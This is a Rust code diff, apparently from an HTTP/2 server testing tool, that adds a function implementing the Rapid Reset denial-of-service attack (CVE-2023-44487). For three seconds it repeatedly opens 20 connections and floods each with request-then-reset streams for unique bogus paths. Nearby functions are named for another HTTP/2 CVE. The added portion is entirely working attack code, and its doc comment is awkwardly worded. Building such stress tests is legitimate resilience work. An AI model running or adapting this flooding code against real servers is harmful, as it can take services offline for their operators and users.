@@ -79,6 +79,27 @@ pub(super) fn rapid_reset_reconnect(target: &Target) -> io::Result<Outcome> {
     )
 }
 
+/// CVE-2023-44487 for paths that nobody asked for before, on 20 connections at a time that are closed right after, for three
+/// seconds: files that are looked for are not to be waited for by others, nor kept for who is gone.
+pub(super) fn rapid_reset_paths(target: &Target) -> io::Result<Outcome> {
+    let until = Instant::now() + Duration::from_secs(3);
+    let (mut frames, mut paths) = (0, 0..);
+    while Instant::now() < until {
+        let peers = (0..20).map(|_| Peer::connect(target.http));
+        for mut peer in peers.collect::<Result<Vec<_>, _>>()? {
+            for (id, path) in streams(1, 1_000).zip(&mut paths) {
+                let path: u64 = path;
+                if !peer.send(&join(&[get(id, &format!("/none-{path}")), reset(id)])) {
+                    break;
+                }
+            }
+            peer.flush();
+            frames += peer.frames;
+        }
+    }
+    Outcome::quiet(frames, "all closed")
+}
+
 /// CVE-2025-8671 by WINDOW_UPDATE of 0 on a stream (RFC 9113, section 6.9).
 pub(super) fn made_by_zero_update(target: &Target) -> io::Result<Outcome> {
     made(target, 0, |id| {
